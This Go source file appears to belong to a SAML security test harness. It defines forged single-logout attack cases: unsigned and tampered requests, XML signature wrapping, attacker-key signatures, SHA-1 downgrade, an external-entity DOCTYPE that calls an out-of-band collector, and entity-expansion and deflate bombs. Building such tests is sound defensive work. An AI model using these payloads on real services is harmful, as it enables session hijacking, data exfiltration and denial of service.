package forge

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/url"
	"strings"
	"time"

	"github.com/beevik/etree"

	"rollcall.example/fixtures"
	"rollcall.example/simulator"
	"rollcall.example/simulator/idp"
)

var unsignedLogouts = []string{"GO-2026-4764", "CVE-2026-82465"}

// logouts are attacks on single logout. Whoever gets one believed ends sessions that
// are not theirs to end; and the address is often a second parser that nobody hardened.
var logouts = []LogoutAttack{
	{
		Row: "SLO-01", Name: "unsigned-form", Rule: "signature-required", Binding: idp.BindingPOST, Sources: unsignedLogouts,
		Summary: "is not signed, in a form", draft: unsignedLogout,
	},
	{
		Row: "SLO-01", Name: "unsigned-query", Rule: "signature-required", Binding: idp.BindingRedirect, Sources: unsignedLogouts,
		Summary: "is not signed, in a query", draft: unsignedLogout,
	},
	{
		Row: "SLO-01", Name: "fields-of-a-query", Rule: "signature-required", Binding: idp.BindingPOST, Sources: []string{"CVE-2025-27773"},
		Summary: "is not signed, and brings a query's signature as fields of its form", draft: unsignedLogout,
		send: func(_ LogoutDonor, c *simulator.Carriage) error {
			c.Form.Set("SigAlg", idp.RSASHA256)
			c.Form.Set("Signature", base64.StdEncoding.EncodeToString(make([]byte, 256)))
			return nil
		},
	},
	{
		Row: "SLO-02", Name: "changed-form", Rule: "signature-holds", Binding: idp.BindingPOST,
		Summary: "was changed after it was signed, in a form",
		draft: afterSigning(func(root *etree.Element) error {
			root.CreateAttr("Reason", "urn:oasis:names:tc:SAML:2.0:logout:admin")
			return nil
		}),
	},
	{
		Row: "SLO-02", Name: "changed-query", Rule: "signature-holds", Binding: idp.BindingRedirect,
		Summary: "was changed after it was signed, in a query",
		send: func(_ LogoutDonor, c *simulator.Carriage) error {
			return inQuery(c, func(xml []byte) []byte { return bytes.Replace(xml, []byte(` ID="id`), []byte(` ID="ie`), 1) })
		},
	},
	{
		Row: "SLO-02", Name: "other-relay-state", Rule: "signature-holds", Binding: idp.BindingRedirect,
		Summary: "comes with another RelayState than what was signed",
		send: func(_ LogoutDonor, c *simulator.Carriage) error {
			return replaceOnce(&c.Address, "RelayState=rollcall", "RelayState=elsewhere")
		},
	},
	{
		Row: "SLO-02", Name: "attacker-key-form", Rule: "signature-holds", Binding: idp.BindingPOST,
		Summary: "is signed with a key of the attacker's own, in a form", draft: logoutSignedBy("attacker"),
	},
	{
		Row: "SLO-02", Name: "attacker-key-query", Rule: "signature-holds", Binding: idp.BindingRedirect,
		Summary: "is signed with a key of the attacker's own, in a query", draft: logoutSignedBy("attacker"),
	},
	{
		Row: "XSW-28", Name: "wrapped-in-extensions", Rule: "signed-is-read", Binding: idp.BindingPOST, Sources: unsignedLogouts,
		Summary: "holds a signed one about somebody else in its extensions",
		draft: wrappedLogout(func(evil, signed *etree.Element) {
			extensions := etree.NewElement("saml2p:Extensions")
			extensions.AddChild(signed)
			evil.InsertChildAt(evil.SelectElement("Issuer").Index()+1, extensions)
		}),
	},
	{
		Row: "XSW-28", Name: "wrapped-before", Rule: "signed-is-read", Binding: idp.BindingPOST, Sources: unsignedLogouts,
		Summary: "holds a signed one about somebody else before all that it says",
		draft:   wrappedLogout(func(evil, signed *etree.Element) { evil.InsertChildAt(0, signed) }),
	},
	{
		Row: "XSW-28", Name: "wrapped-behind", Rule: "signed-is-read", Binding: idp.BindingPOST, Sources: unsignedLogouts,
		Summary: "holds a signed one about somebody else behind all that it says",
		draft:   wrappedLogout(func(evil, signed *etree.Element) { evil.AddChild(signed) }),
	},
	{
		Row: "XSW-28", Name: "wrapped-in-object", Rule: "signed-is-read", Binding: idp.BindingPOST, Sources: unsignedLogouts,
		Summary: "bears the signature of one about somebody else, which holds that one",
		draft: wrappedLogout(func(evil, signed *etree.Element) {
			signature := signed.SelectElement("Signature")
			behind(evil.SelectElement("Issuer"), signature)
			inObject(signature, signed)
		}),
	},
	{
		Row: "ALG-18", Name: "sha1-query", Rule: "strong-method", Binding: idp.BindingRedirect,
		Summary: "is signed with SHA-1, in a query",
		draft: func(e *idp.Envelope) error {
			e.Signer.Algorithm = idp.RSASHA1
			return nil
		},
	},
	{
		Row: "SLO-04", Name: "wrong-destination", Rule: "destination-kept",
		Summary: "was sent to another destination", says: func(l *idp.Logout) { l.Destination = Elsewhere },
	},
	{
		Row: "SLO-04", Name: "no-destination", Rule: "destination-kept",
		Summary: "does not say whom it is sent to",
		draft: func(e *idp.Envelope) error {
			e.Root.RemoveAttr("Destination")
			return nil
		},
	},
	{
		Row: "SLO-05", Name: "ended", Rule: "window-kept",
		Summary: "was good until half an hour ago",
		says:    func(l *idp.Logout) { l.NotOnOrAfter = l.Now.Add(-late) },
	},
	{
		Row: "SLO-05", Name: "old", Rule: "fresh",
		Summary: "was issued yesterday",
		says: func(l *idp.Logout) {
			l.NotOnOrAfter = l.Now.Add(idp.Leeway)
			l.Now = l.Now.Add(-24 * time.Hour)
		},
	},
	{
		Row: "SLO-07", Name: "unknown-index", Rule: "index-known",
		Summary: "names a session that is none", says: func(l *idp.Logout) { l.SessionIndexes = []string{"id-of-no-session"} },
	},
	{
		Row: "SLO-08", Name: "another-person", Rule: "own-name",
		Summary: "names somebody else", says: func(l *idp.Logout) { l.Name.Value = "nobody." + l.Name.Value },
	},
	{
		Row: "SLO-08", Name: "other-case", Rule: "name-exact",
		Summary: "spells the name in capital letters", says: func(l *idp.Logout) { l.Name.Value = strings.ToUpper(l.Name.Value) },
	},
	{
		Row: "SLO-08", Name: "other-format", Rule: "name-exact",
		Summary: "states another format of the name", says: func(l *idp.Logout) { l.Name.Format = idp.FormatPersistent },
	},
	{
		Row: "SLO-08", Name: "other-qualifier", Rule: "name-exact",
		Summary: "qualifies the name by another service provider", says: func(l *idp.Logout) { l.Name.SPNameQualifier = Elsewhere },
	},
	{
		Row: "SLO-11", Name: "signed-inside", Rule: "query-signature-required", Binding: idp.BindingRedirect,
		Summary: "comes in a query, signed in its XML and not in the query",
		draft:   afterSigning(func(*etree.Element) error { return nil }),
	},
	{
		Row: "SLO-13", Name: "external-entity", Rule: "xml-hardened", Binding: idp.BindingPOST, Lure: true, NoCrash: true,
		Summary: "has a document type with an external entity",
		send: func(d LogoutDonor, c *simulator.Carriage) error {
			return carriageWithDoctype(c, `<!DOCTYPE x [<!ENTITY % e SYSTEM "`+d.Collector+`">%e;]>`)
		},
	},
	{
		Row: "SLO-13", Name: "entity-expansion", Rule: "xml-hardened", Binding: idp.BindingPOST, NoCrash: true,
		Summary: "has a document type with entities that grow",
		send: func(_ LogoutDonor, c *simulator.Carriage) error {
			return carriageWithDoctype(c, `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`)
		},
	},
	{
		Row: "SLO-13", Name: "inflated", Rule: "inflate-bounded", Binding: idp.BindingRedirect, NoCrash: true,
		Summary: "inflates to many megabytes",
		draft: func(e *idp.Envelope) error {
			blank := strings.Repeat(" ", 64<<10) // one alone of ten megabytes is more than some parsers take
			for range 10 << 20 / len(blank) {
				e.Root.AddChild(etree.NewComment(blank))
			}
			return nil
		},
	},
}

// unsignedLogout leaves the message without any signature.
func unsignedLogout(e *idp.Envelope) error {
	e.Signer.Key = nil
	return nil
}

// logoutSignedBy has the message signed with another key.
func logoutSignedBy(name string) func(*idp.Envelope) error {
	return func(e *idp.Envelope) error {
		key, err := fixtures.Key(name)
		if err != nil {
			return err
		}
		forged, err := idp.NewIdentity("forged", name, key, forgedAt, "")
		e.Signer = forged.Signer()
		return err
	}
}

// afterSigning signs the message in its XML, whatever the binding, and changes it then.
func afterSigning(change func(root *etree.Element) error) func(*idp.Envelope) error {
	return func(e *idp.Envelope) error {
		if err := e.Sign(); err != nil {
			return err
		}
		e.Signer.Key = nil
		return change(e.Root)
	}
}

// wrappedLogout hides an honest request, about somebody who has no session, in the
// message, which itself is not signed.
func wrappedLogout(hide func(evil, signed *etree.Element)) func(*idp.Envelope) error {
	return func(e *idp.Envelope) error {
		signed := etree.NewDocument()
		signed.SetRoot(e.Root.Copy())
		name := signed.Root().SelectElement("NameID")
		name.SetText("nobody." + name.Text())
		if err := e.Signer.Sign(signed.Root()); err != nil {
			return err
		}
		e.Signer.Key = nil
		e.Root.CreateAttr("ID", "id-of-another-"+e.ID()) // as new as the honest one, for an ID is used once
		hide(e.Root, signed.Root())
		return nil
	}
}

// carriageWithDoctype puts a document type before the message of a form.
func carriageWithDoctype(c *simulator.Carriage, doctype string) error {
	xml, err := base64.StdEncoding.DecodeString(c.Form.Get("SAMLRequest"))
	if err != nil {
		return err
	}
	_, root, found := bytes.Cut(xml, []byte("?>"))
	if !found {
		return errors.New("the message has no XML declaration")
	}
	c.Form.Set("SAMLRequest", base64.StdEncoding.EncodeToString(append([]byte(doctype), root...)))
	return nil
}

// inQuery changes the message in a query, and leaves its signature.
func inQuery(c *simulator.Carriage, change func([]byte) []byte) error {
	before, rest, _ := strings.Cut(c.Address, "SAMLRequest=")
	escaped, after, _ := strings.Cut(rest, "&")
	encoded, err := url.QueryUnescape(escaped)
	if err != nil {
		return err
	}
	packed, err := base64.StdEncoding.DecodeString(encoded)
	if err != nil {
		return err
	}
	xml, err := io.ReadAll(flate.NewReader(bytes.NewReader(packed)))
	if err != nil {
		return err
	}
	changed := change(xml)
	if bytes.Equal(changed, xml) {
		return errors.New("nothing of the message was changed")
	}
	var out bytes.Buffer
	writer, err := flate.NewWriter(&out, flate.BestSpeed)
	if err != nil {
		return err
	}
	_, writing := writer.Write(changed)
	if err := errors.Join(writing, writer.Close()); err != nil {
		return err
	}
	c.Address = before + "SAMLRequest=" + url.QueryEscape(base64.StdEncoding.EncodeToString(out.Bytes())) + "&" + after
	return nil
}

func replaceOnce(text *string, old, with string) error {
	if strings.Count(*text, old) != 1 {
		return fmt.Errorf("%q stands there %d times", old, strings.Count(*text, old))
	}
	*text = strings.Replace(*text, old, with, 1)
	return nil
}
